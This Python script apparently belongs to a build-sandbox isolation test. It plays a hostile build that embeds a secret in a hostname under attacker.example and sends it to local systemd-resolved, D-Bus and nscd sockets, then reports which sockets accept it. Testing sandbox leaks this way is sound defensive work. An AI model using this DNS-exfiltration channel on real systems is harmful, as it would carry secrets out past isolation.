#!/usr/bin/env python3
"""The hostile build's side: connects to each daemon socket and sends a secret the way a client
of it would (a varlink call, D-Bus's first bytes, an nscd request), prints 'TAG ok' or
'TAG err=ERRNO' per socket. Usage: resolving_client.py SECRET TAG=PATH..."""
import socket
import sys

secret = sys.argv[1]
for arg in sys.argv[2:]:
    tag, path = arg.split("=", 1)
    name = "%s.%s.attacker.example" % (secret, tag)
    if "Resolve" in path:
        msg = ('{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"%s"}}\0' % name).encode()
    elif "dbus" in path:
        msg = b"\0AUTH EXTERNAL 30\r\nBEGIN\r\n" + ("resolve1.ResolveHostname %s" % name).encode()
    else:
        msg = name.encode() + b"\0"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        s.sendall(msg)
        print(tag, "ok", flush=True)
    except OSError as e:
        print(tag, "err=%d" % e.errno, flush=True)
    finally:
        s.close()
